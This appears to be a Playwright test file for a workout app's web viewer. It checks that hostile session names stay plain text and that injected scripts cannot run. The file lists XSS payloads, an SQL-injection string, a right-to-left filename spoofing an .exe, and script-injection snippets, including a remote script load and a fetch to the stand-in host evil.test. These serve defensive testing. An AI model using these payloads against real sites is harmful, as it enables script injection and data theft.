"""Text that others wrote stays text, and a page that was tampered with can run nothing."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from chromium import complaints_of
from playwright.sync_api import Browser, Page, expect
from running import Server, running

from formcheck.core.events import FaultRaised, RepCounted
from formcheck.store import Store, history_path

pytestmark = pytest.mark.slow

NAMES = [
    "<img src=x onerror=\"document.title='hacked'\">.mp4",
    "<script>document.title='hacked'</script>",
    "\u202egnp.exe\u202c",  # written from right to left
    "🏋️‍♀️ my film 👩🏽.mp4",
    "x" * 10_000,
    "'; DROP TABLE sessions; --",
]


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A history in which everything that comes from outside is hostile."""
    folder = tmp_path_factory.mktemp("data")
    with Store(history_path(folder)) as store:
        for name in NAMES:
            session = store.begin("squat", {"kind": "file", "name": name})
            rep = RepCounted(3.0, 1, "both", 1.0, 2.0, 3.0, (name,), (name,), {name[:40]: 1.0})
            store.append(session, [FaultRaised(2.0, name, "left"), rep], [(1.0, 10.0), (2.0, 90.0)])
            store.finish(session, 5.0)
        store.finish(store.begin(NAMES[0], {"kind": "file", "name": "exercise"}), 5.0)
    with running(folder) as started:
        yield started


@pytest.fixture
def page(browser: Browser, server: Server) -> Iterator[Page]:
    opened = browser.new_page(viewport={"width": 1280, "height": 800})
    opened.goto(server.address)
    yield opened
    opened.close()


def test_names_are_shown_as_text_in_every_view(page: Page, server: Server) -> None:
    complaints = complaints_of(page)
    page.goto(f"{server.url}/#/history")
    expect(page.locator("table.sessions tbody tr")).to_have_count(len(NAMES) + 1)
    for number in range(1, len(NAMES) + 2):
        page.goto(f"{server.url}/#/session/{number}")
        expect(page.locator(".summary h1")).to_be_visible()
        assert page.locator("img[src=x]").count() == 0
    assert "hacked" not in page.title()
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "a long name breaks the page"
    assert complaints == []


ATTACKS = {
    "inline script": "const s = document.createElement('script'); s.textContent = 'window.hacked = 1';"
    " document.body.append(s)",
    "event handler": "document.body.setAttribute('onclick', 'window.hacked = 1'); document.body.click()",
    "markup": "document.body.innerHTML = '<img src=x onerror=\"window.hacked = 1\">'",
    "eval": "setTimeout('window.hacked = 1', 0)",
    "script of another site": "const s = document.createElement('script'); s.src = 'http://evil.test/x.js';"
    " document.body.append(s)",
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_slipped_into_the_page_does_not_run(page: Page, attack: str) -> None:
    refused = complaints_of(page)
    page.evaluate(
        "(code) => { try { (0, eval)(code) } catch (error) { console.error(String(error)) } }",
        ATTACKS[attack],
    )
    page.wait_for_timeout(200)
    assert page.evaluate("window.hacked") is None
    assert refused


def test_what_the_page_knows_cannot_be_sent_elsewhere(page: Page) -> None:
    sent = page.evaluate(
        "fetch('http://evil.test/', { mode: 'no-cors' }).then(() => 'sent', () => 'refused')"
    )
    assert sent == "refused"


def test_a_page_of_the_last_run_is_told_where_the_new_one_is(browser: Browser, tmp_path: Path) -> None:
    page = browser.new_page()
    with running(tmp_path) as first:
        port = first.port
        page.goto(first.address)
        expect(page.locator("#view, main").first).to_be_visible()
    with running(tmp_path, port=port):
        expect(page.get_by_text("open the address that it printed")).to_be_visible(timeout=10_000)
    page.close()
